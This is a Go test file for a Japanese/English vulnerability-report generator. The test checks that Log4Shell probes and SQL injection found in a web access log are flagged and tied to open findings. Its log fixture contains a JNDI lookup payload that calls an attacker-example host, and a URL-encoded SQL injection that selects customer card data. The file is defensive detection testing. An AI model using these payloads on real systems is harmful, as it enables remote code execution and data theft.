package app

import (
	"context"
	"encoding/json"
	"io"
	"strings"
	"testing"
	"testing/fstest"

	"vulnreport/generator/internal/attack"
	"vulnreport/generator/internal/i18n"
)

// TestAttackSignsEndToEnd: a website's access log with Log4Shell probes
// and SQL injection, beside an open Log4Shell finding and a CWE-89
// finding: attack-signs.json lists the signs and both correlations, the
// findings carry the reason 攻撃の兆候あり, the log is an input of the
// manifest with its format, and a log of a system not in the register is
// a warning.
func TestAttackSignsEndToEnd(t *testing.T) {
	log := `198.51.100.20 - - [03/Nov/2026:10:00:01 +0900] "GET / HTTP/1.1" 200 5120 "-" "Mozilla/5.0 (Windows NT 10.0) Chrome/120.0"
203.0.113.5 - - [04/Nov/2026:02:14:07 +0900] "GET / HTTP/1.1" 200 5120 "-" "${jndi:ldap://c2.attacker.example/a}"
203.0.113.6 - - [05/Nov/2026:03:00:00 +0900] "GET /item?id=1%27%20UNION%20SELECT%20card,name%20FROM%20customers-- HTTP/1.1" 200 900 "-" "Mozilla/5.0 (X11)"
`
	fsys := fstest.MapFS{
		"policy.yaml": {Data: []byte("organization: {ja: テスト株式会社, en: Test Corp}\n")},
		"systems.yaml": {Data: []byte(`- id: web
  name: {ja: 受注サイト, en: Order site}
  category: website
  exposure: internet
  data: [personal]
  owner: 営業部
`)},
		"components.csv": {Data: []byte("system,product,version\nweb,apache:log4j,2.14.1\nweb,acme:shop,1.0\n")},
		"advisories/a.yaml": {Data: []byte(`- id: CVE-2021-44228
  title: Log4Shell
  cvss: {version: "3.1", vector: "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H"}
  cwe: [CWE-502, CWE-917]
  affected: [{product: "apache:log4j", versions: ">=2.0 <2.15.0"}]
- id: ACME-1
  title: shop SQL injection
  cvss: {version: "3.1", vector: "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N"}
  cwe: [CWE-89]
  affected: [{product: "acme:shop", versions: "<1.1"}]
`)},
		"logs/web/access.log":   {Data: []byte(log)},
		"logs/ghost/access.log": {Data: []byte(log)},
	}
	var out strings.Builder
	res, err := Build(context.Background(), Options{Data: fsys, OutDir: t.TempDir() + "/out", Formats: "findings,site", AsOf: date("2026-11-30")}, io.Discard, &out)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out.String(), `logs/ghost/access.log:1:1: warning: システム一覧にない "ghost" のログのため、分析しません`) {
		t.Errorf("no warning, in the policy's first language (Japanese), for the unknown system's log:\n%s", out.String())
	}
	data, ok := res.Files.Get("attack-signs.json")
	if !ok {
		t.Fatal("no attack-signs.json")
	}
	var rep attack.Report
	if err := json.Unmarshal(data, &rep); err != nil || rep.Schema != attack.Schema || len(rep.Systems) != 1 {
		t.Fatalf("attack-signs.json: %v %s", err, data)
	}
	s := rep.Systems[0]
	if s.System != "web" || s.LinesRead != 3 || len(s.Files) != 1 || s.Files[0].Format != attack.FormatCombined {
		t.Errorf("system: %+v", s)
	}
	var corr []string
	for _, c := range s.Correlated {
		corr = append(corr, c.Advisory+"/"+string(c.Category))
	}
	if strings.Join(corr, " ") != "ACME-1/sqli CVE-2021-44228/java" && strings.Join(corr, " ") != "CVE-2021-44228/java ACME-1/sqli" {
		t.Errorf("correlated %v", corr)
	}
	marked := 0
	for _, f := range res.Report.Findings.All() {
		if len(f.Reasons) > 0 && f.Reasons[0].Code == ReasonAttackSigns {
			marked++
			if !strings.HasPrefix(f.Reasons[0].Text.JA, "攻撃の兆候あり") {
				t.Errorf("reason text %q", f.Reasons[0].Text.JA)
			}
		}
	}
	if marked != 2 {
		t.Errorf("%d findings marked, want 2", marked)
	}
	page, ok := res.Files.Get("attacks.html")
	if !ok || !strings.Contains(string(page), "CVE-2021-44228") || !strings.Contains(string(page), "未対策の脆弱性を狙う攻撃") {
		t.Errorf("attacks.html does not list the attacks on open vulnerabilities")
	}
	found := false
	for _, in := range res.Report.Sources.Inputs {
		if in.Path == "logs/web/access.log" && in.Kind == "log:apache-combined" && in.SHA256 != "" && in.Read == 3 {
			found = true
		}
	}
	if !found {
		t.Errorf("the log is not an input of the manifest: %+v", res.Report.Sources.Inputs)
	}
}

// TestAttackCategoryNames: every category has its name in both languages
// in the catalogue, the one place the reports take it from.
func TestAttackCategoryNames(t *testing.T) {
	for _, c := range attack.Categories {
		key := "attack.category." + string(c)
		for _, lang := range []i18n.Lang{i18n.JA, i18n.EN} {
			if got := i18n.T(lang, key); got == key || got == "" {
				t.Errorf("%s has no %s name in the catalogue", c, lang)
			}
		}
	}
}
